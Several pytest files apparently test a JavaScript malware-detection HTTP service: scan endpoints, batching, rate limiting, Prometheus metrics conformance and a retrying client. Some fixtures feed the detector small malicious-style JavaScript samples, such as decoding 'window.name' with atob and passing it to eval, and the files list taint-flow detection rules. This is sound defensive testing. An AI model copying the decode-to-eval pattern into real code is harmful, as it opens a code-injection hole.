ports via :class:`BackgroundServer` and are driven with stdlib
``http.client`` — byte-for-byte the same path a production client takes.
"""

import http.client
import json
import re
import threading
import time

import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.serve import BackgroundServer, ServeConfig, run_load

PROM_LINE = re.compile(
    r"^[a-zA-Z_:][a-zA-Z0-9_:]*(\{[a-zA-Z_][a-zA-Z0-9_]*=\"[^\"]*\""
    r"(,[a-zA-Z_][a-zA-Z0-9_]*=\"[^\"]*\")*\})? (-?[0-9.]+(e-?[0-9]+)?|\+Inf|NaN)"
    # Sampled scans attach an OpenMetrics exemplar to their bucket line.
    r'( # \{trace_id="[0-9a-f]+"\} (-?[0-9.]+(e-?[0-9]+)?))?$'
)


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


@pytest.fixture(scope="module")
def server(detector):
    config = ServeConfig(port=0, max_batch=4, max_wait_ms=10.0, queue_limit=32)
    with BackgroundServer(detector, config) as background:
        yield background


def http_json(background, method, path, payload=None, raw_body=None):
    """One request on a fresh connection; returns (status, headers, body bytes)."""
    connection = http.client.HTTPConnection(background.host, background.port, timeout=30)
    body = raw_body if raw_body is not None else (
        json.dumps(payload) if payload is not None else None
    )
    headers = {"Content-Type": "application/json"} if body is not None else {}
    connection.request(method, path, body=body, headers=headers)
    response = connection.getresponse()
    data = response.read()
    status, header_map = response.status, dict(response.getheaders())
    connection.close()
    return status, header_map, data


class TestEndpoints:
    def test_healthz(self, server, detector):
        status, _, body = http_json(server, "GET", "/healthz")
        payload = json.loads(body)
        assert status == 200
        assert payload["status"] == "ok"
        assert payload["model_fingerprint"] == detector.fingerprint()
        assert payload["queue_depth"] >= 0
        assert payload["uptime_s"] >= 0

    def test_version_echoes_config(self, server):
        status, _, body = http_json(server, "GET", "/version")
        payload = json.loads(body)
        assert status == 200
        assert payload["service"] == "repro.serve"
        assert payload["config"]["max_batch"] == 4
        assert payload["config"]["queue_limit"] == 32

    def test_scan_matches_oneshot(self, server, detector, split):
        source = split.test.sources[0]
        expected = detector.scan(source)
        status, _, body = http_json(server, "POST", "/scan", {"source": source, "name": "s0"})
        payload = json.loads(body)
        assert status == 200
        assert payload["path"] == "s0"
        assert payload["label"] == expected.label
        assert payload["probability"] == expected.probability
        assert payload["verdict"] == expected.verdict
        assert payload["model_fingerprint"] == detector.fingerprint()

    def test_per_request_threshold_changes_verdict_not_probability(self, server, detector, split):
        source = split.test.sources[0]
        expected = detector.scan(source)
        status, _, body = http_json(
            server, "POST", "/scan", {"source": source, "threshold": 1.1}
        )
        payload = json.loads(body)
        assert status == 200
        assert payload["probability"] == expected.probability  # unchanged
        assert payload["malicious"] is False  # nothing reaches 1.1
        assert payload["threshold"] == 1.1

    def test_scan_batch_mixed_entries(self, server, detector, split):
        sources = split.test.sources[:3]
        scripts = [sources[0], {"source": sources[1], "name": "named"}, {"source": sources[2]}]
        status, _, body = http_json(server, "POST", "/scan/batch", {"scripts": scripts})
        payload = json.loads(body)
        assert status == 200
        assert payload["n_files"] == 3
        assert [r["path"] for r in payload["results"]] == ["<batch:0>", "named", "<batch:2>"]
        expected = detector.scan_batch(sources)
        for served, oneshot in zip(payload["results"], expected.results):
            assert served["label"] == oneshot.label
            assert served["probability"] == oneshot.probability

    def test_malformed_json_is_400(self, server):
        status, _, body = http_json(server, "POST", "/scan", raw_body="{not json")
        payload = json.loads(body)
        assert status == 400
        assert payload["error"]["status"] == 400

    def test_missing_source_is_400(self, server):
        status, _, body = http_json(server, "POST", "/scan", {"name": "nope"})
        assert status == 400
        assert "source" in json.loads(body)["error"]["message"]

    def test_bad_threshold_is_400(self, server, split):
        status, _, _ = http_json(
            server, "POST", "/scan", {"source": split.test.sources[0], "threshold": "high"}
        )
        assert status == 400

    def test_empty_batch_is_400(self, server):
        status, _, _ = http_json(server, "POST", "/scan/batch", {"scripts": []})
        assert status == 400

    def test_unknown_path_is_404(self, server):
        status, _, _ = http_json(server, "GET", "/nope")
        assert status == 404

    def test_wrong_method_is_405_with_allow(self, server):
        status, headers, _ = http_json(server, "GET", "/scan")
        assert status == 405
        assert "Allow" in headers


class TestMetricsEndpoint:
    def test_exposition_after_traffic(self, server, split):
        http_json(server, "POST", "/scan", {"source": split.test.sources[0]})
        status, headers, body = http_json(server, "GET", "/metrics")
        text = body.decode("utf-8")
        assert status == 200
        assert headers["Content-Type"].startswith("text/plain; version=0.0.4")
        for family in (
            "repro_http_requests_total",
            "repro_http_request_seconds",
            "repro_serve_queue_depth",
            "repro_serve_batches_total",
            "repro_serve_batch_size",
            "repro_scan_stage_seconds",
            "repro_cache_lookups_total",
        ):
            assert family in text, family

    def test_exposition_parses_as_prometheus_text(self, server):
        _, _, body = http_json(server, "GET", "/metrics")
        lines = body.decode("utf-8").splitlines()
        assert lines, "metrics body must not be empty"
        for line in lines:
            if line.startswith("#") or not line:
                continue
            assert PROM_LINE.match(line), line

    def test_request_counter_advances(self, server):
        def count():
            _, _, body = http_json(server, "GET", "/metrics")
            total = 0.0
            for line in body.decode().splitlines():
                if line.startswith("repro_http_requests_total{") and 'path="/healthz"' in line:
                    total += float(line.rsplit(" ", 1)[1])
            return total

        before = count()
        http_json(server, "GET", "/healthz")
        assert count() == before + 1


class TestConcurrency:
    def test_eight_clients_coalesce_and_match_oneshot(self, detector, split):
        sources = split.test.sources[:8]
        expected = {
            f"s{i}": (r.label, r.probability)
            for i, r in enumerate(detector.scan_batch(sources).results)
        }
        # A generous max_wait gives slow CI machines time to coalesce;
        # the flush-on-count path still fires as soon as 4 are queued.
        config = ServeConfig(port=0, max_batch=4, max_wait_ms=150.0, queue_limit=32)
        with BackgroundServer(detector, config) as background:
            report = run_load(
                background.host,
                background.port,
                [(f"s{i}", source) for i, source in enumerate(sources)],
                concurrency=8,
                repeats=1,
            )
            batch_sizes = list(background.server.batcher.batch_sizes)

        assert report.errors == 0
        assert report.requests == 8
        for result in report.results:
            assert (result.label, result.probability) == expected[result.name], result.name
        # 8 clients, max_batch=4 → at most ceil(8/4) = 2 dispatched batches.
        assert sum(batch_sizes) == 8
        assert len(batch_sizes) <= 2

    def test_queue_full_returns_429_with_retry_after(self, detector, split):
        config = ServeConfig(port=0, max_batch=1, max_wait_ms=0.0, queue_limit=1)
        with BackgroundServer(detector, config) as background:
            gate = threading.Event()
            original = background.server.batcher._scan

            def gated(sources, names, metas=None):
                gate.wait(timeout=10)
                return original(sources, names, metas)

            background.server.batcher._scan = gated
            source = split.test.sources[0]
            statuses = {}

            def client(key):
                statuses[key] = http_json(background, "POST", "/scan", {"source": source})

            # First request occupies the executor; second fills the queue.
            first = threading.Thread(target=client, args=("first",))
            first.start()
            deadline = time.time() + 10
            while not background.server.batcher.batch_sizes and time.time() < deadline:
                time.sleep(0.01)  # batch 1 is now blocked inside the gated scan
            assert background.server.batcher.batch_sizes == [1]
            second = threading.Thread(target=client, args=("second",))
            second.start()
            deadline = time.time() + 10
            while background.server.batcher.queue_depth < 1 and time.time() < deadline:
                time.sleep(0.01)
            assert background.server.batcher.queue_depth == 1

            status, headers, body = http_json(background, "POST", "/scan", {"source": source})
            assert status == 429
            assert headers["Retry-After"] == "1"
            assert json.loads(body)["error"]["status"] == 429

            gate.set()
            first.join(timeout=30)
            second.join(timeout=30)
            assert statuses["first"][0] == 200
            assert statuses["second"][0] == 200

    def test_graceful_shutdown_answers_in_flight_requests(self, detector, split):
        config = ServeConfig(port=0, max_batch=1, max_wait_ms=0.0, queue_limit=8)
        background = BackgroundServer(detector, config)
        background.__enter__()
        try:
            original = background.server.batcher._scan

            def slow(sources, names, metas=None):
                time.sleep(0.3)
                return original(sources, names, metas)

            background.server.batcher._scan = slow
            outcome = {}

            def client():
                outcome["reply"] = http_json(
                    background, "POST", "/scan", {"source": split.test.sources[0], "name": "inflight"}
                )

            thread = threading.Thread(target=client)
            thread.start()
            time.sleep(0.15)  # request is now inside the slow scan
        finally:
            background.stop()  # drain=True: must wait for the in-flight reply
        thread.join(timeout=30)
        status, _, body = outcome["reply"]
        assert status == 200
        assert json.loads(body)["path"] == "inflight"

    def test_request_timeout_is_503(self, detector, split):
        config = ServeConfig(
            port=0, max_batch=1, max_wait_ms=0.0, queue_limit=8, request_timeout_s=0.2
        )
        with BackgroundServer(detector, config) as background:
            gate = threading.Event()
            original = background.server.batcher._scan

            def gated(sources, names, metas=None):
                gate.wait(timeout=10)
                return original(sources, names, metas)

            background.server.batcher._scan = gated
            try:
                status, headers, _ = http_json(
                    background, "POST", "/scan", {"source": split.test.sources[0]}
                )
                assert status == 503
                assert "Retry-After" in headers
            finally:
                gate.set()
