"""Unit tests for the hand-rolled HTTP/1.1 framing."""

import asyncio
import json

import pytest

from repro.serve.http import (
    MAX_BODY_BYTES,
    ProtocolError,
    error_response,
    json_response,
    read_request,
    render_response,
)


def parse(raw: bytes):
    """Run read_request over a fed StreamReader."""

    async def go():
        reader = asyncio.StreamReader()
        reader.feed_data(raw)
        reader.feed_eof()
        return await read_request(reader)

    return asyncio.run(go())


class TestReadRequest:
    def test_get_without_body(self):
        request = parse(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
        assert request.method == "GET"
        assert request.path == "/healthz"
        assert request.headers["host"] == "x"
        assert request.body == b""

    def test_post_with_sized_body(self):
        body = json.dumps({"source": "var a;"}).encode()
        raw = (
            b"POST /scan HTTP/1.1\r\ncontent-length: %d\r\nContent-Type: application/json\r\n\r\n"
            % len(body)
        ) + body
        request = parse(raw)
        assert request.method == "POST"
        assert request.json() == {"source": "var a;"}

    def test_query_string_stripped(self):
        request = parse(b"GET /metrics?format=prom HTTP/1.1\r\n\r\n")
        assert request.path == "/metrics"

    def test_clean_eof_returns_none(self):
        assert parse(b"") is None

    def test_keep_alive_default_and_close(self):
        assert parse(b"GET / HTTP/1.1\r\n\r\n").keep_alive
        assert not parse(b"GET / HTTP/1.1\r\nConnection: close\r\n\r\n").keep_alive

    def test_malformed_request_line(self):
        with pytest.raises(ProtocolError) as excinfo:
            parse(b"NOT-HTTP\r\n\r\n")
        assert excinfo.value.status == 400

    def test_malformed_header_line(self):
        with pytest.raises(ProtocolError):
            parse(b"GET / HTTP/1.1\r\nno-colon-here\r\n\r\n")

    def test_malformed_content_length(self):
        with pytest.raises(ProtocolError):
            parse(b"POST / HTTP/1.1\r\nContent-Length: ten\r\n\r\n")

    def test_oversized_body_rejected_413(self):
        raw = f"POST / HTTP/1.1\r\nContent-Length: {MAX_BODY_BYTES + 1}\r\n\r\n".encode()
        with pytest.raises(ProtocolError) as excinfo:
            parse(raw)
        assert excinfo.value.status == 413

    def test_chunked_encoding_rejected(self):
        with pytest.raises(ProtocolError):
            parse(b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n")

    def test_truncated_headers_is_protocol_error(self):
        with pytest.raises(ProtocolError):
            parse(b"GET / HTTP/1.1\r\nHost: x")  # EOF before blank line

    def test_body_not_json(self):
        request = parse(b"POST / HTTP/1.1\r\nContent-Length: 4\r\n\r\n{bad")
        with pytest.raises(ProtocolError) as excinfo:
            request.json()
        assert excinfo.value.status == 400


class TestResponses:
    def test_render_response_framing(self):
        raw = render_response(200, b"hi", content_type="text/plain")
        head, _, body = raw.partition(b"\r\n\r\n")
        assert head.startswith(b"HTTP/1.1 200 OK\r\n")
        assert b"Content-Length: 2" in head
        assert b"Connection: keep-alive" in head
        assert body == b"hi"

    def test_extra_headers_and_close(self):
        raw = render_response(429, b"", extra_headers={"Retry-After": "1"}, keep_alive=False)
        assert b"Retry-After: 1" in raw
        assert b"Connection: close" in raw

    def test_json_response_round_trips(self):
        raw = json_response(200, {"a": 1})
        body = raw.partition(b"\r\n\r\n")[2]
        assert json.loads(body) == {"a": 1}

    def test_error_response_shape(self):
        raw = error_response(429, "queue full")
        body = json.loads(raw.partition(b"\r\n\r\n")[2])
        assert body["error"]["status"] == 429
        assert body["error"]["reason"] == "Too Many Requests"
        assert body["error"]["message"] == "queue full"
