"""Unit tests for the typed stdlib client (retry/backoff/Retry-After).

The server side is a scripted ``http.server`` answering a fixed sequence
of responses, and the client's ``sleep`` is injected — so the backoff
schedule is asserted exactly, without waiting it out.
"""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from repro.client import ScanAPIError, ScanClient, ScanVerdict


def ok(data, trace_id=None):
    return (200, {}, {"api_version": "v1", "trace_id": trace_id, "data": data})


def err(status, code, message="scripted failure", headers=None, detail=None):
    return (
        status,
        headers or {},
        {
            "api_version": "v1",
            "trace_id": None,
            "error": {"code": code, "message": message, "detail": detail},
        },
    )


VERDICT = {
    "verdict": "malicious",
    "malicious": True,
    "probability": 0.91,
    "label": 1,
    "threshold": 0.5,
    "model_fingerprint": "abc123",
    "trace_id": "t-1",
    "cache_hit": False,
}


class _Handler(BaseHTTPRequestHandler):
    def _respond(self):
        length = int(self.headers.get("Content-Length", 0))
        self.server.requests.append((self.command, self.path, self.rfile.read(length)))
        script = self.server.script
        status, headers, payload = script.pop(0) if script else err(500, "internal")
        body = json.dumps(payload).encode("utf-8")
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = _respond

    def log_message(self, *args):  # silence test output
        pass


@pytest.fixture()
def scripted():
    """Start a scripted server; yields (set_script, requests, url)."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.script = []
    server.requests = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.server_address[1]}"

    def set_script(*responses):
        server.script = list(responses)

    yield set_script, server.requests, url
    server.shutdown()
    thread.join(timeout=10)


def make_client(url, sleeps=None, **kwargs):
    recorded = sleeps if sleeps is not None else []
    kwargs.setdefault("retries", 2)
    kwargs.setdefault("backoff_s", 0.25)
    return ScanClient(url, sleep=recorded.append, **kwargs), recorded


def test_scan_returns_typed_verdict(scripted):
    set_script, requests, url = scripted
    set_script(ok(VERDICT, trace_id="t-1"))
    client, _ = make_client(url)
    verdict = client.scan("evil()", name="e.js", threshold=0.7)
    assert isinstance(verdict, ScanVerdict)
    assert verdict.malicious is True
    assert verdict.probability == 0.91
    assert verdict.model_fingerprint == "abc123"
    assert verdict.raw == VERDICT
    method, path, body = requests[0]
    assert (method, path) == ("POST", "/v1/scan")
    assert json.loads(body) == {"source": "evil()", "name": "e.js", "threshold": 0.7}


def test_retry_on_429_honors_retry_after(scripted):
    set_script, requests, url = scripted
    set_script(
        err(429, "rate_limited", headers={"Retry-After": "3"}),
        ok(VERDICT),
    )
    client, sleeps = make_client(url)
    verdict = client.scan("x")
    assert verdict.verdict == "malicious"
    assert len(requests) == 2
    assert sleeps == [3.0]  # Retry-After (3s) beats backoff (0.25s)


def test_backoff_doubles_without_retry_after(scripted):
    set_script, _requests, url = scripted
    set_script(err(503, "unavailable"), err(503, "unavailable"), ok(VERDICT))
    client, sleeps = make_client(url, backoff_s=0.1)
    client.scan("x")
    assert sleeps == [0.1, 0.2]


def test_retries_exhausted_raises_typed_error(scripted):
    set_script, requests, url = scripted
    set_script(*[err(429, "rate_limited") for _ in range(3)])
    client, sleeps = make_client(url, retries=2)
    with pytest.raises(ScanAPIError) as caught:
        client.scan("x")
    assert caught.value.status == 429
    assert caught.value.code == "rate_limited"
    assert len(requests) == 3  # first try + 2 retries
    assert len(sleeps) == 2


def test_4xx_is_never_retried(scripted):
    set_script, requests, url = scripted
    set_script(err(400, "bad_request", detail={"field": "source"}))
    client, sleeps = make_client(url)
    with pytest.raises(ScanAPIError) as caught:
        client.scan("x")
    assert caught.value.code == "bad_request"
    assert caught.value.detail == {"field": "source"}
    assert len(requests) == 1 and sleeps == []


def test_transport_errors_retried_then_typed(scripted):
    _set_script, _requests, url = scripted
    # Re-point at a port nobody listens on.
    from repro.serve.supervisor import free_port

    client, sleeps = make_client(f"http://127.0.0.1:{free_port()}", retries=1)
    with pytest.raises(ScanAPIError) as caught:
        client.healthz()
    assert caught.value.status == 0
    assert caught.value.code == "transport"
    assert len(sleeps) == 1


def test_non_envelope_response_is_internal_error(scripted):
    set_script, _requests, url = scripted
    set_script((200, {}, {"not": "an envelope"}))
    client, _ = make_client(url, retries=0)
    with pytest.raises(ScanAPIError) as caught:
        client.healthz()
    assert caught.value.code == "internal"


def test_url_validation():
    with pytest.raises(ValueError):
        ScanClient("https://example.com")
    with pytest.raises(ValueError):
        ScanClient("http://")


def test_paths_are_v1_prefixed(scripted):
    set_script, requests, url = scripted
    set_script(ok({"status": "ok"}), ok({"results": []}), ok({"traces": []}))
    client, _ = make_client(url)
    client.healthz()
    client.scan_batch(["a", {"source": "b", "name": "b.js"}], threshold=0.3)
    client.traces(n=5)
    assert [path for _m, path, _b in requests] == [
        "/v1/healthz",
        "/v1/scan/batch",
        "/v1/debug/traces?n=5",
    ]
    assert json.loads(requests[1][2])["threshold"] == 0.3
