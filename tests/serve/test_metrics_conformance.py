"""Prometheus exposition conformance for the full ``/metrics`` payload.

``test_server.py`` checks that known families appear and lines match the
sample grammar; this module audits the exposition *as a whole* the way a
strict scraper would: every sample belongs to exactly one announced
family, every family announces HELP and TYPE exactly once, histogram
buckets are cumulative-monotone and end at ``+Inf``, and metric names
follow the unit-suffix conventions (``_total`` for counters, base units
like ``_seconds`` — no ``_ms``/``_mb``).
"""

import http.client
import json
import re

import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.serve import BackgroundServer, ServeConfig

NAME = re.compile(r"^[a-zA-Z_:][a-zA-Z0-9_:]*$")
NUMBER = r"-?[0-9.]+(?:e-?[0-9]+)?|\+Inf|NaN"
SAMPLE = re.compile(
    r"^(?P<name>[a-zA-Z_:][a-zA-Z0-9_:]*)"
    r"(?:\{(?P<labels>[^}]*)\})? (?P<value>" + NUMBER + r")"
    # OpenMetrics-style exemplar annotation (histogram bucket lines only —
    # enforced below, not by the grammar).
    r'(?P<exemplar> # \{trace_id="[0-9a-f]+"\} (?:' + NUMBER + r"))?$"
)


@pytest.fixture(scope="module")
def exposition():
    """One /metrics payload from a server that has seen real traffic."""
    split = experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    with BackgroundServer(det, ServeConfig(port=0, max_wait_ms=5.0)) as background:
        def request(method, path, payload=None):
            connection = http.client.HTTPConnection(background.host, background.port, timeout=30)
            body = json.dumps(payload) if payload is not None else None
            connection.request(method, path, body=body,
                               headers={"Content-Type": "application/json"} if body else {})
            response = connection.getresponse()
            data = response.read()
            connection.close()
            return data

        # Drive every subsystem so all families render with samples.
        request("POST", "/scan", {"source": split.test.sources[0], "name": "m0"})
        request("POST", "/scan/batch", {"scripts": split.test.sources[1:3]})
        request("POST", "/scan", {"source": 'var u = "h" + "i";\nfetch(u);\n',
                                  "name": "ob0", "deobfuscate": True})
        request("POST", "/scan", {"source": "greet(user);\n",
                                  "name": "cl0", "deobfuscate": True})
        request("POST", "/analyze", {"source": "eval('x');"})
        # A real taint flow (decode source → eval sink) so the dataflow
        # histogram and the flow-rule hit counters carry samples.
        request("POST", "/analyze",
                {"source": "var p = atob(window.name);\neval(p);\n"})
        request("POST", "/analyze",
                {"source": 'var u = "h" + "i";\neval(u);\n', "deobfuscate": True})
        request("GET", "/healthz")
        request("GET", "/nope")
        text = request("GET", "/metrics").decode("utf-8")
    return text


def parse(text):
    """(help, type, samples-by-family) with structural validation."""
    helps: dict[str, str] = {}
    types: dict[str, str] = {}
    samples: dict[str, list] = {}
    for line in text.splitlines():
        if not line:
            continue
        if line.startswith("# HELP "):
            _, _, rest = line.partition("# HELP ")
            name, _, docstring = rest.partition(" ")
            assert name not in helps, f"duplicate HELP for {name}"
            helps[name] = docstring
        elif line.startswith("# TYPE "):
            _, _, rest = line.partition("# TYPE ")
            name, _, kind = rest.partition(" ")
            assert name not in types, f"duplicate TYPE for {name}"
            assert kind in ("counter", "gauge", "histogram"), (name, kind)
            types[name] = kind
        elif line.startswith("#"):
            continue
        else:
            match = SAMPLE.match(line)
            assert match, f"unparsable sample line: {line!r}"
            sample_name = match.group("name")
            if match.group("exemplar"):
                assert sample_name.endswith("_bucket"), (
                    f"exemplar on a non-bucket sample: {line!r}"
                )
            family = re.sub(r"_(bucket|sum|count)$", "", sample_name)
            family = family if family in types else sample_name
            samples.setdefault(family, []).append(
                (sample_name, match.group("labels") or "", match.group("value"))
            )
    return helps, types, samples


class TestExposition:
    def test_every_family_announced_exactly_once(self, exposition):
        helps, types, samples = parse(exposition)
        assert set(helps) == set(types), "HELP/TYPE must pair up"
        for family in samples:
            assert family in types, f"samples for unannounced family {family}"

    def test_no_duplicate_samples(self, exposition):
        _, _, samples = parse(exposition)
        for family, rows in samples.items():
            seen = [(name, labels) for name, labels, _ in rows]
            assert len(seen) == len(set(seen)), f"duplicate sample in {family}"

    def test_metric_names_well_formed_with_repro_prefix(self, exposition):
        _, types, _ = parse(exposition)
        for name in types:
            assert NAME.match(name), name
            assert name.startswith("repro_"), name

    def test_unit_suffix_conventions(self, exposition):
        _, types, _ = parse(exposition)
        for name, kind in types.items():
            if kind == "counter":
                assert name.endswith("_total"), f"counter {name} must end in _total"
            else:
                assert not name.endswith("_total"), f"{kind} {name} must not end in _total"
            # Base units only: milliseconds/megabytes never appear in names.
            for bad in ("_ms", "_millis", "_mb", "_kb"):
                assert not name.endswith(bad), f"{name} uses non-base unit {bad}"

    def test_histograms_complete_and_monotone(self, exposition):
        _, types, samples = parse(exposition)
        for family, kind in types.items():
            if kind != "histogram":
                continue
            rows = samples.get(family, [])
            if not rows:
                continue
            # Group bucket series by their non-"le" labels (histograms can
            # be labeled per stage, per cause, …).
            series: dict[str, list] = {}
            sums: dict[str, float] = {}
            counts: dict[str, float] = {}
            for name, labels, value in rows:
                stripped = ",".join(
                    part for part in labels.split(",") if part and not part.startswith("le=")
                )
                if name.endswith("_bucket"):
                    le = next(p for p in labels.split(",") if p.startswith("le="))
                    bound = le.split("=", 1)[1].strip('"')
                    series.setdefault(stripped, []).append(
                        (float("inf") if bound == "+Inf" else float(bound), float(value))
                    )
                elif name.endswith("_sum"):
                    sums[stripped] = float(value)
                elif name.endswith("_count"):
                    counts[stripped] = float(value)
            for key, buckets in series.items():
                buckets.sort(key=lambda pair: pair[0])
                assert buckets[-1][0] == float("inf"), f"{family}{{{key}}} missing +Inf"
                values = [count for _, count in buckets]
                assert values == sorted(values), f"{family}{{{key}}} buckets not cumulative"
                assert key in sums and key in counts, f"{family}{{{key}}} missing _sum/_count"
                assert buckets[-1][1] == counts[key], f"{family}{{{key}}} +Inf != _count"

    def test_build_info_and_uptime_present(self, exposition):
        _, types, samples = parse(exposition)
        assert types.get("repro_build_info") == "gauge"
        build_rows = samples["repro_build_info"]
        assert len(build_rows) == 1
        _, labels, value = build_rows[0]
        assert "version=" in labels and "python=" in labels
        assert value == "1"
        assert types.get("repro_uptime_seconds") == "gauge"
        uptime = float(samples["repro_uptime_seconds"][0][2])
        assert uptime >= 0

    def test_renamed_size_histograms_carry_unit_suffix(self, exposition):
        _, types, _ = parse(exposition)
        assert "repro_serve_batch_size_scripts" in types
        assert "repro_serve_batch_size" not in types


class TestDeobfuscateFamilies:
    """The deobfuscation pre-pass pre-registers its families at server
    boot, so they are announced (and conformance-audited above) even
    before the first flagged request — and carry real samples after."""

    def test_families_announced_with_expected_types(self, exposition):
        _, types, _ = parse(exposition)
        assert types.get("repro_deobfuscate_scripts_total") == "counter"
        assert types.get("repro_deobfuscate_rewrites_total") == "counter"
        assert types.get("repro_deobfuscate_forced_exec_total") == "counter"
        assert types.get("repro_deobfuscate_fixpoint_iterations") == "histogram"

    def test_flagged_traffic_lands_in_result_labels(self, exposition):
        _, _, samples = parse(exposition)
        rows = {labels: float(value)
                for _, labels, value in samples["repro_deobfuscate_scripts_total"]}
        assert rows.get('result="changed"', 0) >= 1
        assert rows.get('result="unchanged"', 0) >= 1

    def test_rewrite_stages_preregistered(self, exposition):
        _, _, samples = parse(exposition)
        stages = {labels for _, labels, _ in samples["repro_deobfuscate_rewrites_total"]}
        assert 'stage="fold"' in stages
        assert 'stage="string_array"' in stages
        assert 'stage="forced_exec"' in stages


class TestDataflowFamilies:
    """The taint-flow engine's observability: the dataflow latency
    histogram is announced from boot, and every flow rule's hit counter
    is pre-registered at zero so dashboards can alert on first fire."""

    FLOW_RULES = (
        "decode-chain",
        "flow-decode-to-timer",
        "flow-decode-to-write",
        "flow-hexsoup-to-sink",
        "flow-location-to-eval",
        "flow-xhr-to-eval",
        "flow-tainted-innerhtml",
        "flow-tainted-src",
        "flow-tainted-dispatch",
    )

    def test_dataflow_histogram_announced(self, exposition):
        _, types, _ = parse(exposition)
        assert types.get("repro_analysis_dataflow_seconds") == "histogram"

    def test_dataflow_histogram_observed_analyzed_scripts(self, exposition):
        _, _, samples = parse(exposition)
        counts = {name: float(value)
                  for name, labels, value in samples["repro_analysis_dataflow_seconds"]
                  if name.endswith("_count")}
        assert counts and all(v >= 1 for v in counts.values())

    def test_every_flow_rule_preregistered(self, exposition):
        _, _, samples = parse(exposition)
        labels = {labels for _, labels, _ in samples["repro_analysis_findings_total"]}
        for rule_id in self.FLOW_RULES:
            assert f'rule="{rule_id}"' in labels, f"{rule_id} not pre-registered"

    def test_flow_hit_lands_in_rule_counter(self, exposition):
        _, _, samples = parse(exposition)
        rows = {labels: float(value)
                for _, labels, value in samples["repro_analysis_findings_total"]}
        assert rows.get('rule="decode-chain"', 0) >= 1


class TestAggregatedExposition:
    """The federated view must satisfy the same conformance rules as a
    single daemon's exposition — a strict scraper can't tell whether it
    is talking to one process or a merged fleet.  Two "shards" are
    simulated by parsing the real server exposition twice, which also
    pins the merge arithmetic: every summed histogram bucket must carry
    exactly the sum of the per-shard cumulative counts."""

    @pytest.fixture(scope="class")
    def aggregated(self, exposition):
        from repro.obs import FleetMetrics, parse_exposition

        fleet = FleetMetrics()
        fleet.update("shard-0", parse_exposition(exposition))
        fleet.update("shard-1", parse_exposition(exposition))
        return fleet.render("sum"), fleet.render("by-shard")

    def test_summed_view_is_conformant(self, aggregated):
        summed, _ = aggregated
        helps, types, samples = parse(summed)
        assert set(helps) <= set(types)
        for family in samples:
            assert family in types, f"samples for unannounced family {family}"

    def test_by_shard_view_labels_every_sample(self, aggregated):
        _, by_shard = aggregated
        _, types, samples = parse(by_shard)
        for family, rows in samples.items():
            for _name, labels, _value in rows:
                assert 'shard="shard-' in labels, f"{family} sample missing shard label"

    def test_exemplar_syntax_parses_in_aggregate(self, exposition, aggregated):
        from repro.obs import parse_exposition

        summed, _ = aggregated
        # parse() above already asserts every line matches the exemplar-aware
        # grammar; the structured parser must agree with itself round-trip.
        families = parse_exposition(summed)
        assert families, "aggregated exposition parsed to nothing"
        if " # {" in exposition:  # sampled traces landed an exemplar
            assert " # {" in summed, "exemplar lost in the merge"

    def test_merged_bucket_counts_equal_per_shard_sums(self, exposition, aggregated):
        from repro.obs import parse_exposition

        summed, _ = aggregated
        single = parse_exposition(exposition)
        merged = parse_exposition(summed)
        checked = 0
        for name, family in single.items():
            if family.kind != "histogram":
                continue
            for sample in family.samples:
                if not sample.name.endswith("_bucket"):
                    continue
                merged_value = merged[name].value(labels=sample.labels, suffix="_bucket")
                assert merged_value == 2 * sample.value, (name, sample.labels)
                checked += 1
        assert checked > 0, "no histogram buckets audited"

    def test_summed_histograms_stay_cumulative(self, aggregated):
        summed, _ = aggregated
        _, types, samples = parse(summed)
        audited = 0
        for family, kind in types.items():
            if kind != "histogram":
                continue
            for name, labels, value in samples.get(family, []):
                if name.endswith("_count"):
                    audited += 1
        assert audited > 0
        # Full monotonicity/+Inf structure is asserted by reusing the
        # single-exposition audit on the merged text.
        TestExposition().test_histograms_complete_and_monotone(summed)
