"""Tests for POST /analyze: static analysis over HTTP, no model involved."""

import json

import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.serve import BackgroundServer, ServeConfig

from .test_server import http_json


@pytest.fixture(scope="module")
def detector():
    split = experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=2)
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


@pytest.fixture(scope="module")
def server(detector):
    config = ServeConfig(port=0, max_batch=4, max_wait_ms=10.0, queue_limit=8)
    with BackgroundServer(detector, config) as background:
        yield background


class TestAnalyzeEndpoint:
    def test_findings_round_trip(self, server):
        status, _, body = http_json(
            server, "POST", "/analyze", {"source": "eval(code); debugger;", "name": "t.js"}
        )
        payload = json.loads(body)
        assert status == 200
        assert payload["name"] == "t.js"
        assert payload["parse_ok"] is True
        rules = {f["rule_id"] for f in payload["findings"]}
        assert {"dynamic-eval", "debugger-statement"} <= rules
        assert 0.0 < payload["score"] < 1.0

    def test_decisive_flag_exposed(self, server):
        status, _, body = http_json(
            server, "POST", "/analyze", {"source": 'eval(unescape("%61"));'}
        )
        payload = json.loads(body)
